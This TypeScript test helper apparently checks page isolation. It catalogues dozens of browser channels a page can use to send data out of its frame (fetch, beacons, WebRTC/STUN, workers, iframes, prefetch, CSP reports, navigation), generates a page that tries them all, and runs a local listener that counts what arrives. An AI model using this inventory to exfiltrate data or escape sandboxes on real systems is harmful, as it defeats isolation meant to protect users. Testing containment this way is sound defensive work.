/**
 * Ways in which a page could carry something out of its frame, and a listener that counts what arrives. `at` in a script
 * is the address of the listener; each way adds its own name to it.
 */
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Those after which the page still stands; all of them are tried by one page. */
export const quietWays: Readonly<Record<string, string>> = {
  fetch: 'await fetch(at)',
  'fetch without cors': "await fetch(at, { mode: 'no-cors', method: 'POST', body: 'word' })",
  'fetch that outlives the page': "await fetch(at, { mode: 'no-cors', keepalive: true })",
  XMLHttpRequest: "const asked = new XMLHttpRequest(); asked.open('GET', at); asked.send()",
  WebSocket: "new WebSocket(at.replace('http', 'ws'))",
  EventSource: 'new EventSource(at)',
  beacon: "navigator.sendBeacon(at, 'word')",
  image: 'new Image().src = at',
  'image set': "const drawn = document.createElement('img'); drawn.srcset = at + ' 1x'; document.body.append(drawn)",
  'style sheet': "add('link', { rel: 'stylesheet', href: at })",
  'imported style': "add('style', {}, `@import url(${at});`)",
  'address in a style': 'document.body.style.backgroundImage = `url(${at})`',
  font: "add('style', {}, `@font-face { font-family: away; src: url(${at}) }`); await document.fonts.load('10px away').catch(() => {})",
  'cursor in a style': 'document.body.style.cursor = `url(${at}), auto`',
  script: "add('script', { src: at })",
  'module script': "add('script', { type: 'module', src: at })",
  'dynamic import': 'await import(at)',
  worker: 'new Worker(at)',
  'worker from a blob':
    "new Worker(URL.createObjectURL(new Blob([`fetch('${at}', { mode: 'no-cors' }); importScripts('${at}')`])))",
  'shared worker': 'new SharedWorker(at)',
  'service worker': 'await navigator.serviceWorker.register(at)',
  worklet: 'await CSS.paintWorklet.addModule(at)',
  frame: "add('iframe', { src: at })",
  'frame in a frame':
    "add('iframe', { srcdoc: `<img src='${at}'><script>fetch('${at}', { mode: 'no-cors' })</script>` })",
  'window of a frame': "add('iframe', {}).contentWindow.fetch(at, { mode: 'no-cors' }).catch(() => {})",
  'frame of a blob':
    "add('iframe', { src: URL.createObjectURL(new Blob([`<img src='${at}'>`], { type: 'text/html' })) })",
  object: "add('object', { data: at })",
  embed: "add('embed', { src: at })",
  video: "add('video', { src: at, preload: 'auto' })",
  poster: "add('video', { poster: at })",
  audio: 'new Audio(at).load()',
  track:
    "const film = add('video', { src: 'data:video/mp4,' }); const track = document.createElement('track'); track.default = true; track.src = at; film.append(track)",
  'drawing of another document':
    "document.body.insertAdjacentHTML('beforeend', `<svg><use href='${at}#a'/><image href='${at}'/></svg>`)",
  prefetch: "add('link', { rel: 'prefetch', href: at })",
  preload: "add('link', { rel: 'preload', as: 'image', href: at })",
  'module preload': "add('link', { rel: 'modulepreload', href: at })",
  preconnect: "add('link', { rel: 'preconnect', href: at })",
  'dns prefetch': "add('link', { rel: 'dns-prefetch', href: at })",
  icon: "add('link', { rel: 'icon', href: at })",
  manifest: "add('link', { rel: 'manifest', href: at })",
  'speculation rules':
    "add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ source: 'list', urls: [at] }], prerender: [{ source: 'list', urls: [at] }] }))",
  ping: "const link = add('a', { href: '#', ping: at }); link.click()",
  'form in a new window': "const form = add('form', { action: at, target: '_blank' }); form.submit()",
  'new window': 'window.open(at)',
  'link in a new window': "HTMLElement.prototype.click.call(add('a', { href: at, target: '_blank' }))",
  'page around': 'try { top.location = at } catch {}',
  'page around by a link': "add('a', { href: at, target: '_top' }).dispatchEvent(new MouseEvent('click'))",
  reporting: "add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${at}` })",
  WebTransport: "new WebTransport(at.replace('http:', 'https:'))",
  'XML with an entity': "new DOMParser().parseFromString(`<!DOCTYPE a SYSTEM '${at}'><a/>`, 'text/xml')",
  cache: "await caches.open('a').then((kept) => kept.add(at))",
  WebRTC: `await connect(RTCPeerConnection)`,
  'WebRTC of a frame': `await connect(add('iframe', {}).contentWindow.RTCPeerConnection)`,
}

/** Those that take the page itself elsewhere: each is tried by a page of its own. */
export const leavingWays: Readonly<Record<string, string>> = {
  location: 'location.href = at',
  form: "const form = add('form', { action: at, method: 'post' }); form.submit()",
  'location of an own address': "location.href = '/api/system/info?word'",
  'refresh by a tag': "add('meta', { httpEquiv: 'refresh', content: `0;url=${at}` })",
  'page of a blob':
    "location.href = URL.createObjectURL(new Blob([`<img src='${at}'><script>fetch('${at}', { mode: 'no-cors' }); new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] }).createDataChannel('a')</script>`], { type: 'text/html' }))",
  'page of a data address': "location.href = `data:text/html,<img src='${at}'>`",
}

/** A page that tries ways, all at once, and writes `tried` to its console. */
export const pageThatTries = (ways: Readonly<Record<string, string>>, { web, stun }: Listener): string => `
<h1>A page</h1>
<script>
const stun = '${stun}'
const add = (name, given, text) => {
  const element = Object.assign(document.createElement(name), given)
  if (text) element.textContent = text
  document.body.append(element)
  return element
}
const connect = async (Connection) => {
  const connection = new Connection({ iceServers: [{ urls: 'stun:' + stun }] })
  connection.createDataChannel('away')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((resolve) => setTimeout(resolve, 500))
}
const patience = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 700))])
;(async () => {
await Promise.all([
${Object.entries(ways)
  .map(
    ([name, code]) =>
      `patience((async (at) => { ${code.replaceAll('</script', '<\\/script')} })('${web}/${encodeURIComponent(name)}')).catch(() => {}),`,
  )
  .join('\n')}
])
await new Promise((resolve) => setTimeout(resolve, 500))
console.log('tried')
})()
</script>`

export interface Listener {
  /** `http://127.0.0.1:<port>` */
  readonly web: string
  readonly stun: string
  /** What arrived: requests by their path, connections without one, and packets. */
  readonly arrived: string[]
  close(): Promise<void>
}

export async function listen(): Promise<Listener> {
  const arrived: string[] = []
  const web = createServer((request, response) => {
    arrived.push(`request ${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*').end('ok')
  })
  web.on('connection', () => arrived.push('connection'))
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve))
  const packets = createSocket('udp4', () => arrived.push('packet'))
  await new Promise<void>((resolve) => packets.bind(0, '127.0.0.1', resolve))
  return {
    web: `http://127.0.0.1:${(web.address() as AddressInfo).port}`,
    stun: `127.0.0.1:${packets.address().port}`,
    arrived,
    async close() {
      packets.close()
      web.closeAllConnections()
      await new Promise((resolve) => web.close(resolve))
    },
  }
}
